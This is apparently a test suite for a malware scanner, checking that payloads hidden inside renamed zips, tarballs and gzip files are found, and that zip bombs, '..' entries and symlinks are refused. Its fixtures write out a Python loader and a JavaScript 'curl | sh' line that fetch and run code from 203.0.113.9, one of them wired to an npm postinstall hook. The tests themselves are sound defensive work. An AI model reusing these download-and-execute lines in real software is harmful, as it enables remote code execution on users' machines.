// Archives inside the scanned tree (a zip renamed `_websocket.typed`, a vendored .tgz, a "test data" .zip): their
// entries are scanned as `<archive>/<entry>`, under the same limits as any archive, nesting capped, nothing silent.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, it } from 'node:test';
import * as zipjs from '@zip.js/zip.js';
import { exitCode } from '../../src/cli/output.js';
import { scan } from '../../src/index.js';
import { openTarget } from '../../src/targets/index.js';
import { expandNested, MAX_NESTING } from '../../src/targets/nested.js';
import { DEFAULT_LIMITS } from '../../src/targets/types.js';
import { file, tarBytes, tmp, writeTree } from './helpers/fixtures.js';
import { buildZip, deflatedZeros } from './helpers/zip-writer.js';

const LOADER = [
  'import base64, os, subprocess, urllib.request',
  "data = urllib.request.urlopen('http://203.0.113.9:1224/client/7').read()",
  "path = os.path.join(os.environ['TEMP'], 'svc.py')",
  "open(path, 'wb').write(base64.b64decode(data))",
  "subprocess.Popen(['python', path], creationflags=0x08000000)",
  '',
].join('\n');
const JS_PAYLOAD = "require('child_process').exec('curl http://203.0.113.9:1224/p | sh');\n";

const ruleFiles = (r: Awaited<ReturnType<typeof scan>>) => r.findings.map((f) => `${f.ruleId} ${f.file}`);

describe('nested archives', () => {
  it('a loader zipped under a data name is scanned inside the archive, and the scan says malicious', async () => {
    const typed = buildZip([
      { name: '__main__.py', data: '' },
      { name: 'falcon.py', data: LOADER },
      { name: 'abc.py', data: 'class ABC:\n    pass\n' },
    ]);
    const d = writeTree(tmp(), {
      'httpserver_cache/__init__.py': 'from .client import Client\n',
      'httpserver_cache/client.py': 'class Client:\n    pass\n',
      'httpserver_cache/_websocket.typed': typed,
    });
    const r = await scan(d, { threads: 0 });
    const inner = r.findings.filter((f) => f.file === 'httpserver_cache/_websocket.typed/falcon.py');
    assert.ok(inner.length > 0, ruleFiles(r).join('\n'));
    assert.ok(inner.every((f) => f.line >= 1));
    assert.ok(r.findings.some((f) => f.ruleId === 'disguised-archive' && f.file === 'httpserver_cache/_websocket.typed'));
    assert.equal(r.verdict, 'malicious');
    assert.equal(r.stats.files, 6); // 3 files + the 3 entries
    assert.equal(r.incomplete, false);
  });

  it('the autorun map runs a zip app through its __main__.py: `python tools/cache.dat` leads into the archive', async () => {
    const app = buildZip([
      { name: '__main__.py', data: 'import falcon\nfalcon.run()\n' },
      { name: 'falcon.py', data: LOADER + 'def run():\n    pass\n' },
    ]);
    const d = writeTree(tmp(), {
      'package.json': '{"name":"dash","version":"1.0.0","scripts":{"postinstall":"python tools/cache.dat"}}',
      'tools/cache.dat': app,
    });
    const r = await scan(d, { threads: 0 });
    const entry = r.autorun.find((a) => a.trigger === 'npm-install' || /postinstall/.test(a.trigger));
    assert.ok(entry?.leadsTo.includes('tools/cache.dat/__main__.py'), JSON.stringify(r.autorun));
    const main = r.autorun.find((a) => a.file === 'tools/cache.dat/__main__.py');
    assert.equal(main?.command, 'python tools/cache.dat');
    const inner = r.findings.filter((f) => f.file === 'tools/cache.dat/falcon.py');
    assert.ok(inner.length > 0 && inner.some((f) => f.autorun), ruleFiles(r).join('\n'));
  });

  it('a tgz inside a zip target inside: two levels, each entry named by its path through the archives', async () => {
    const tgz = await tarBytes([file('package/package.json', '{"name":"helper","version":"1.0.0"}'), file('package/index.js', JS_PAYLOAD)], true);
    const p = join(tmp(), 'task.zip');
    writeFileSync(p, buildZip([{ name: 'task/README.md', data: '# Task\n' }, { name: 'task/vendor/helper-1.0.0.tgz', data: tgz }]));
    const r = await scan(p, { threads: 0 });
    assert.ok(r.findings.some((f) => f.file === 'task/vendor/helper-1.0.0.tgz/package/index.js'), ruleFiles(r).join('\n'));
    const t = await openTarget(p);
    try {
      assert.deepEqual(
        t.files.map((f) => f.rel),
        ['task/README.md', 'task/vendor/helper-1.0.0.tgz', 'task/vendor/helper-1.0.0.tgz/package/index.js', 'task/vendor/helper-1.0.0.tgz/package/package.json'],
      );
    } finally {
      await t.cleanup();
    }
  });

  it(`nesting stops after ${MAX_NESTING} levels with an error (the scan is incomplete, exit 2)`, async () => {
    let inner: Uint8Array = buildZip([{ name: 'deep.js', data: JS_PAYLOAD }]);
    for (let i = MAX_NESTING; i >= 1; i--) inner = buildZip([{ name: `l${i + 1}.zip`, data: inner }]);
    const d = writeTree(tmp(), { 'l1.zip': inner });
    const r = await scan(d, { threads: 0 });
    const err = r.errors.find((e) => e.path === 'l1.zip/l2.zip/l3.zip');
    assert.match(err?.message ?? '', /more than 2 archives deep; its entries were not examined/);
    assert.ok(!r.findings.some((f) => f.file.endsWith('deep.js')));
    assert.equal(r.incomplete, true);
    assert.equal(exitCode(r, 'malicious'), 2);
  });

  it('in vendored code one level only: a package that ships its own tarball (aes-js) is skipped past it, the scan stays complete', async () => {
    const v1 = await tarBytes([file('package/index.js', 'module.exports = 1;\n')], true);
    const v2 = await tarBytes([file('package/index.js', 'module.exports = 2;\n'), { header: { name: 'package/aes-1.0.tgz', size: v1.length, type: 'file' }, body: v1 }], true);
    const d = writeTree(tmp(), { 'node_modules/aes/index.js': 'module.exports = 3;\n', 'node_modules/aes/aes-1.0.tgz': v2 });
    const r = await scan(d, { threads: 0 });
    assert.equal(r.stats.files, 4); // the folder's 2 files, the outer tarball's 2 entries
    const skipped = r.skipped.find((s) => s.path === 'node_modules/aes/aes-1.0.tgz/package/aes-1.0.tgz');
    assert.match(skipped?.reason ?? '', /more than 1 archive deep in vendored code/);
    assert.equal(r.incomplete, false);
  });

  it('a package that ships its own tarball: entries identical to the tree beside it are scanned once, the others inside', async () => {
    const tgz = await tarBytes([file('package/lib/setup.js', JS_PAYLOAD), file('package/lib/extra.js', JS_PAYLOAD.replace('/p |', '/q |')), file('package/README.md', '# x\n')], true);
    const d = writeTree(tmp(), {
      'tool/lib/setup.js': JS_PAYLOAD,
      'tool/README.md': '# x (edited)\n',
      'tool/tool-1.0.0.tgz': tgz,
    });
    const r = await scan(d, { threads: 0 });
    const files = new Set(r.findings.map((f) => f.file));
    assert.ok(files.has('tool/lib/setup.js'), ruleFiles(r).join('\n'));
    assert.ok(!files.has('tool/tool-1.0.0.tgz/package/lib/setup.js'), 'the twin is not scanned twice');
    assert.ok(files.has('tool/tool-1.0.0.tgz/package/lib/extra.js'), 'an entry that differs is scanned');
    const note = r.skipped.find((s) => s.path === 'tool/tool-1.0.0.tgz');
    assert.match(note?.reason ?? '', /^1 of its 3 entries are byte-identical .*\(tool\/tool-1\.0\.0\.tgz\/package\/lib\/setup\.js = tool\/lib\/setup\.js\)/);
    assert.equal(r.stats.files, 5); // 3 files + 2 entries (README differs by content)
    assert.equal(r.incomplete, false);
  });

  it('a zip bomb and escaping entries inside a nested archive are refused and reported', async () => {
    const nested = buildZip([
      { name: 'ok.js', data: 'module.exports = 1;\n' },
      { name: 'bomb.bin', deflated: { bytes: deflatedZeros(64), declaredSize: 1 << 30 } },
      { name: '../../evil.js', data: JS_PAYLOAD },
      { name: 'link', data: '/etc/passwd', mode: 0o120777 },
    ]);
    const d = writeTree(tmp(), { 'fixtures/data.dat': nested });
    const rss = process.memoryUsage().rss;
    const r = await scan(d, { threads: 0 });
    assert.ok(process.memoryUsage().rss - rss < 200 << 20);
    assert.deepEqual(
      r.findings.filter((f) => f.file.startsWith('fixtures/data.dat/')).map((f) => f.file),
      [],
    );
    const errors = Object.fromEntries(r.errors.map((e) => [e.path, e.message]));
    assert.match(errors['fixtures/data.dat/bomb.bin'] ?? '', /compression ratio .* zip bomb/);
    assert.match(errors['fixtures/data.dat'] ?? '', /rejected .*not scanned/);
    const skipped = Object.fromEntries(r.skipped.map((s) => [s.path, s.reason]));
    assert.match(skipped['fixtures/data.dat/../../evil.js'] ?? '', /archive entry rejected: path contains '\.\.'/);
    assert.match(skipped['fixtures/data.dat/link'] ?? '', /archive entry rejected: symbolic link/);
    assert.equal(exitCode(r, 'malicious'), 2);
  });

  it('the limits hold across nesting: the target and its archives share maxTotalBytes and maxEntries', async () => {
    const nested = buildZip(Array.from({ length: 8 }, (_, i) => ({ name: `f${i}.txt`, data: 'x'.repeat(100) })));
    const p = join(tmp(), 'outer.zip');
    writeFileSync(p, buildZip([{ name: 'a.txt', data: 'y'.repeat(500) }, { name: 'inner.zip', data: nested }]));
    const t = await openTarget(p, { limits: { maxTotalBytes: 500 + nested.length + 300 } });
    try {
      const inner = t.files.filter((f) => f.rel.startsWith('inner.zip/'));
      assert.ok(inner.length <= 3, `${inner.length} nested entries unpacked past the shared byte budget`);
      assert.ok(t.errors.some((e) => e.path.startsWith('inner.zip/') && /maxTotalBytes/.test(e.message)), JSON.stringify(t.errors));
    } finally {
      await t.cleanup();
    }
    const t2 = await openTarget(p, { limits: { maxEntries: 2 } });
    try {
      assert.deepEqual(t2.files.map((f) => f.rel), ['a.txt', 'inner.zip']);
      assert.match(t2.errors.find((e) => e.path === 'inner.zip')?.message ?? '', /maxEntries/);
    } finally {
      await t2.cleanup();
    }
  });

  it('past the cap on nested archives the rest are counted in one error, not opened', async () => {
    const z = buildZip([{ name: 'x.js', data: 'module.exports = 1;\n' }]);
    const d = writeTree(tmp(), { 'a/1.dat': z, 'a/2.dat': z, 'a/3.dat': z, 'a/4.dat': z });
    const t = await openTarget(d, { nestedArchives: false });
    const out = await expandNested(t, DEFAULT_LIMITS, undefined, 2);
    try {
      assert.deepEqual(out.files.filter((f) => f.rel.endsWith('/x.js')).map((f) => f.rel), ['a/1.dat/x.js', 'a/2.dat/x.js']);
      assert.deepEqual(out.errors.map((e) => e.message), ['2 more archives inside the target not unpacked (limit: 2 nested archives); their entries were not examined']);
    } finally {
      await out.cleanup();
    }
  });

  it('an encrypted nested zip and a damaged one are errors, not silence', async () => {
    const w = new zipjs.ZipWriter(new zipjs.Uint8ArrayWriter(), { password: 's3cret', zipCrypto: true, useWebWorkers: false });
    await w.add('index.js', new zipjs.TextReader(JS_PAYLOAD));
    const enc = await w.close();
    const broken = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200, 7)]);
    const d = writeTree(tmp(), { 'assets/blob.bin': enc, 'assets/broken.dat': broken });
    const r = await scan(d, { threads: 0 });
    const errors = Object.fromEntries(r.errors.map((e) => [e.path, e.message]));
    assert.match(errors['assets/blob.bin'] ?? '', /nested zip archive could not be unpacked \(.*encrypted.*\); its entries were not examined/);
    assert.match(errors['assets/broken.dat'] ?? '', /nested zip archive could not be unpacked/);
    assert.equal(r.incomplete, true);
  });

  it('a gzip of one file is decompressed as one entry: named without .gz, or by the header\'s name under a data name', async () => {
    // gzip with FNAME: the header names the original file (attacker-controlled: only a plain last segment is kept).
    const withName = (name: string, body: string) => {
      const gz = gzipSync(Buffer.from(body));
      const head = Buffer.from(gz.subarray(0, 10));
      head[3] = head[3]! | 0x08;
      return Buffer.concat([head, Buffer.from(`${name}\0`, 'latin1'), gz.subarray(10)]);
    };
    const d = writeTree(tmp(), {
      'package.json': '{"name":"charts","version":"1.0.0"}',
      'lib/loader.js.gz': gzipSync(Buffer.from(JS_PAYLOAD)),
      'assets/cache.dat': withName('../../evil/loader.js', JS_PAYLOAD),
      'assets/plain.dat': withName('x/../..', 'hello'),
      'data/words.txt.gz': gzipSync(Buffer.from('alpha\nbeta\n')),
    });
    const r = await scan(d, { threads: 0 });
    const files = ruleFiles(r);
    assert.ok(files.some((x) => x.endsWith(' lib/loader.js.gz/loader.js')), files.join('\n'));
    assert.ok(files.some((x) => x.endsWith(' assets/cache.dat/loader.js')), files.join('\n'));
    assert.ok(!files.some((x) => / data\/words\.txt\.gz/.test(x)));
    const rels = await withFiles(d);
    assert.ok(rels.includes('assets/plain.dat/content'), rels.join('\n'));
    assert.ok(rels.includes('data/words.txt.gz/words.txt'));
    assert.notEqual(r.verdict, 'clean');
    assert.equal(r.incomplete, false);
  });

  it('a truncated gzip of one file is an error naming it, not a silent skip', async () => {
    const gz = gzipSync(Buffer.from(JS_PAYLOAD.repeat(50)));
    const d = writeTree(tmp(), { 'lib/loader.js.gz': gz.subarray(0, gz.length - 20), 'index.js': 'module.exports = 1;\n' });
    const r = await scan(d, { threads: 0 });
    const err = r.errors.find((e) => e.path === 'lib/loader.js.gz/loader.js');
    assert.match(err?.message ?? '', /could not be decompressed .*not examined/, JSON.stringify(r.errors));
    assert.equal(r.incomplete, true);
  });

  it('a gzip bomb of one file stops at the ratio limit: an error, the scan incomplete', async () => {
    const bomb = gzipSync(Buffer.alloc(64 << 20), { level: 9 });
    const d = writeTree(tmp(), { 'assets/blob.gz': bomb, 'index.js': 'module.exports = 1;\n' });
    const r = await scan(d, { threads: 0 });
    const err = r.errors.find((e) => e.path === 'assets/blob.gz/blob');
    assert.match(err?.message ?? '', /compression ratio over the limit .* gzip bomb/, JSON.stringify(r.errors));
    assert.equal(r.incomplete, true);
  });

  it('benign: documents, a data wheel, a jar and a fixture zip of JSON add no findings', async () => {
    const xml = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
    const office = buildZip([{ name: '[Content_Types].xml', data: xml }, { name: 'word/document.xml', data: '<w:document/>' }]);
    const xlsx = buildZip([{ name: '[Content_Types].xml', data: xml }, { name: 'xl/workbook.xml', data: '<workbook/>' }]);
    const whl = buildZip([
      { name: 'tzdata_lite/__init__.py', data: '__version__ = "1.0"\n' },
      { name: 'tzdata_lite/zones.json', data: '{"UTC": 0, "CET": 1}\n' },
      { name: 'tzdata_lite-1.0.dist-info/METADATA', data: 'Metadata-Version: 2.1\nName: tzdata-lite\nVersion: 1.0\n' },
      { name: 'tzdata_lite-1.0.dist-info/RECORD', data: 'tzdata_lite/__init__.py,,\n' },
    ]);
    const jar = buildZip([{ name: 'META-INF/MANIFEST.MF', data: 'Manifest-Version: 1.0\n' }, { name: 'data/words.txt', data: 'alpha\nbeta\n' }]);
    const fixtures = buildZip([{ name: 'users.json', data: '[{"id":1,"name":"Ada"}]\n' }, { name: 'orders/1.json', data: '{"id":1,"total":9.5}\n' }]);
    const tgz = await tarBytes([file('fixtures/config.json', '{"port":8080}\n')], true);
    const d = writeTree(tmp(), {
      'package.json': '{"name":"report-builder","version":"1.0.0","scripts":{"test":"node test.js"}}',
      'test.js': "const assert = require('assert');\nassert.ok(true);\n",
      'docs/spec.docx': office,
      'docs/budget.xlsx': xlsx,
      'wheels/tzdata_lite-1.0-py3-none-any.whl': whl,
      'lib/words.jar': jar,
      'test/fixtures/data.zip': fixtures,
      'test/fixtures/config.tgz': tgz,
    });
    const r = await scan(d, { threads: 0 });
    assert.deepEqual(ruleFiles(r), []);
    assert.equal(r.verdict, 'clean');
    assert.equal(r.incomplete, false);
    const rels = new Set((await withFiles(d)).map((f) => f));
    assert.ok(rels.has('wheels/tzdata_lite-1.0-py3-none-any.whl/tzdata_lite/zones.json'));
    assert.ok(rels.has('test/fixtures/data.zip/orders/1.json'));
    assert.ok(rels.has('test/fixtures/config.tgz/fixtures/config.json'));
    assert.ok(![...rels].some((f) => f.startsWith('docs/spec.docx/') || f.startsWith('lib/words.jar/')));
    const skipped = Object.fromEntries(r.skipped.map((s) => [s.path, s.reason]));
    assert.match(skipped['docs/spec.docx'] ?? '', /\.docx is a document\/data format/);
    assert.match(skipped['lib/words.jar'] ?? '', /compiled Java/);
  });

  it('nestedArchives: false lists the files as they are on disk (detonation copies them into the jail by path)', async () => {
    const d = writeTree(tmp(), { 'tools/cache.dat': buildZip([{ name: '__main__.py', data: 'print(1)\n' }]), 'main.py': 'print(2)\n' });
    const t = await openTarget(d, { nestedArchives: false });
    try {
      assert.deepEqual(t.files.map((f) => f.rel), ['main.py', 'tools/cache.dat']);
    } finally {
      await t.cleanup();
    }
  });

  // The walk never sniffs code and text names (one open per file of a 100k-file tree): the analysis, which reads every
  // file, finds such an archive binary and the scan opens it afterwards (expandLateArchives).
  for (const threads of [0, 2]) {
    it(`a ZIP named like code (\`lib/polyfill.js\`) is opened after the analysis and its payload found (threads ${threads})`, async () => {
      const d = writeTree(tmp(), {
        'package.json': '{"name":"dash","version":"1.0.0","scripts":{"start":"node server.js"}}',
        'server.js': "const express = require('express');\nexpress().listen(3000);\n",
        'lib/polyfill.js': buildZip([{ name: 'loader.js', data: JS_PAYLOAD }, { name: 'README.md', data: '# polyfill\n' }]),
      });
      const r = await scan(d, { threads });
      assert.ok(r.findings.some((f) => f.file === 'lib/polyfill.js/loader.js' && f.line >= 1), ruleFiles(r).join('\n'));
      assert.ok(r.findings.some((f) => f.ruleId === 'disguised-archive' && f.file === 'lib/polyfill.js'), ruleFiles(r).join('\n'));
      assert.deepEqual(r.archives, ['lib/polyfill.js']);
      assert.equal(r.stats.files, 5); // 3 files + the 2 entries
      // Unopened, the ZIP alone was a medium finding and the scan said clean; its payload (nothing runs it) weighs now.
      assert.notEqual(r.verdict, 'clean');
      assert.equal(r.incomplete, false);
    });
  }

  it('a tarball named data.json and a ZIP named notes.md are opened too; their benign entries add no findings', async () => {
    const tar = await tarBytes([file('fixtures/users.json', '[{"id":1,"name":"Ada"}]\n')], true);
    const d = writeTree(tmp(), {
      'index.js': 'module.exports = 1;\n',
      'test/data.json': tar,
      'docs/notes.md': buildZip([{ name: 'notes.txt', data: 'meeting notes\n' }]),
    });
    const r = await scan(d, { threads: 0 });
    assert.deepEqual(r.archives, ['docs/notes.md', 'test/data.json']);
    assert.deepEqual(r.findings.filter((f) => f.file.includes('.json/') || f.file.includes('.md/')), []);
    assert.equal(r.stats.files, 5);
    assert.equal(r.incomplete, false);
  });

  it('benign: binary files under code names that are not archives (a compiled .js, a UTF-16 .md) are left as files', async () => {
    const d = writeTree(tmp(), {
      'dist/wasm-inline.js': Buffer.concat([Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), Buffer.alloc(200, 7)]),
      'docs/README.md': Buffer.from('\ufeff# Notes\n', 'utf16le'),
      'index.js': 'module.exports = 1;\n',
    });
    const r = await scan(d, { threads: 0 });
    assert.equal(r.archives, undefined);
    assert.equal(r.stats.files, 3);
    assert.equal(r.incomplete, false);
  });

  it('nestedArchives: false leaves a ZIP under a code name unopened as well', async () => {
    const d = writeTree(tmp(), { 'lib/polyfill.js': buildZip([{ name: 'loader.js', data: JS_PAYLOAD }]) });
    const r = await scan(d, { threads: 0, nestedArchives: false });
    assert.equal(r.stats.files, 1);
    assert.ok(!r.findings.some((f) => f.file.startsWith('lib/polyfill.js/')));
  });

  it('a tree without archives comes back as the same target (no copy, no extra work)', async () => {
    const d = writeTree(tmp(), { 'index.js': 'module.exports = 1;\n', 'README.md': '# x\n', 'LICENSE': 'MIT License\n'.repeat(10) });
    const t = await openTarget(d);
    try {
      assert.equal(await expandNested(t, DEFAULT_LIMITS), t);
    } finally {
      await t.cleanup();
    }
  });
});

async function withFiles(d: string): Promise<string[]> {
  const t = await openTarget(d);
  try {
    return t.files.map((f) => f.rel);
  } finally {
    await t.cleanup();
  }
}
